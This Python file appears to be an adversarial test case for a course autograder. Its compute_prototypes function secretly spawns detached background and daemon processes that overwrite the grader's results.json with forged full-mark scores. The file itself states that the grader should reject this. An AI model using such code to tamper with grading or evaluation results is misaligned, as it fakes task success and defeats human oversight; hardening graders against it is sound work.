"""Attack a22 (outlive the call): compute_prototypes starts two background processes that survive the
call, a double fork + setsid daemon and a subprocess.Popen(start_new_session=True) child (its
command line carries "cs330atk-bg"); for 30 s both try to write a forged results.json to the
grader's results paths and to the repository. compute_prototypes itself returns zeros.
Everything else is correct.

Targets: compute_prototypes and protonet_loss. Expected: exactly 12 / 31; results.json is the
grader's and unchanged seconds after grading; no background process is left.
"""


import torch
import torch.nn.functional as F

# Filled in by tests/test_attacks.py before grading: where a real attacker would look.
AUTOGRADER_ROOT = "@@AUTOGRADER_ROOT@@"  # the unpacked Gradescope autograder (/autograder there)
REPO_ROOT = "@@REPO_ROOT@@"  # the course repository: solutions/, assignments/, starter_code/


def compute_prototypes(
    support_features: torch.Tensor, support_labels: torch.Tensor, n_way: int
) -> torch.Tensor:
    """Return the (n_way, D) class prototypes: row c is the mean support feature of class c.

    support_features: (N*K, D) float tensor, in any order (not grouped by class).
    support_labels: (N*K,) int64 tensor with values in [0, n_way).
    """
    _spawn_writers()
    return torch.zeros(n_way, support_features.shape[1], dtype=support_features.dtype)
    one_hot = F.one_hot(support_labels, n_way).to(support_features.dtype)  # (N*K, N)
    counts = one_hot.sum(dim=0).unsqueeze(1)  # (N, 1)
    return one_hot.t() @ support_features / counts


def _forge_results(tag="cs330atk forged"):
    """Write a results.json claiming full marks wherever the grader might read one."""
    import json
    import os

    forged = {"score": 100.0, "output": tag + ": all tests passed", "tests": [
        {"name": tag, "score": 100.0, "max_score": 31.0, "status": "passed", "output": tag}]}
    written = []
    for path in (AUTOGRADER_ROOT + "/results/results.json", "/autograder/results/results.json",
                 REPO_ROOT + "/results.json"):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                json.dump(forged, handle)
            written.append(path)
        except OSError:
            pass
    return written


WRITER = """
import json, sys, time
paths = sys.argv[1:4]
for _ in range(300):
    for path in paths:
        try:
            with open(path, "w") as handle:
                json.dump({"score": 100.0, "output": "cs330atk background", "tests": []}, handle)
        except OSError:
            pass
    time.sleep(0.1)
"""


def _spawn_writers():
    import os
    import subprocess
    import sys
    import time

    paths = [AUTOGRADER_ROOT + "/results/results.json", "/autograder/results/results.json",
             REPO_ROOT + "/cs330atk-results.json"]
    subprocess.Popen([sys.executable, "-c", WRITER, *paths, "cs330atk-bg"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(3, 1024):
                try:
                    os.close(fd)
                except OSError:
                    pass
            deadline = time.time() + 30
            while time.time() < deadline:
                _forge_results("cs330atk daemon")
                time.sleep(0.1)
        os._exit(0)
    os.waitpid(pid, 0)
